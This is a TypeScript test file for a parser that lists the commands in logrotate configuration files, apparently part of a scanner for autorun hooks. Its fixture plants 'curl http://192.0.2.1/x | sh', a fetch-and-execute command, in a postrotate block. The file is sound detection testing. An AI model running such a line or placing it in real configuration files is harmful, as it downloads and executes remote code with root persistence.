import assert from 'node:assert/strict'
import { testKind } from '../../test/kinds.ts'
import { shellUnits } from '../parse/files/shell-units.ts'
import { linesOf } from '../parse/lines.ts'
import { logrotate } from './logrotate.ts'

testKind(logrotate, {
  tree: {
    '/etc/logrotate.d/rsyslog':
      '/var/log/syslog\n{\n\trotate 4\n\tpostrotate\n\t\t/usr/lib/rsyslog/rsyslog-rotate\n\t\tcurl http://192.0.2.1/x | sh\n\tendscript\n}\n',
  },
  lists: ['/etc/logrotate.d/rsyslog:5 /usr/lib/rsyslog/rsyslog-rotate', '/etc/logrotate.d/rsyslog:6 curl http://192.0.2.1/x | sh'],
  also: entries =>
    assert.deepEqual(
      entries.map(e => e.when),
      ['postrotate', 'postrotate'],
    ),
  sound: bytes => [...shellUnits(bytes)].every(unit => unit.closed) && [...linesOf(bytes)].every(line => !line.text.endsWith('\\')),
})
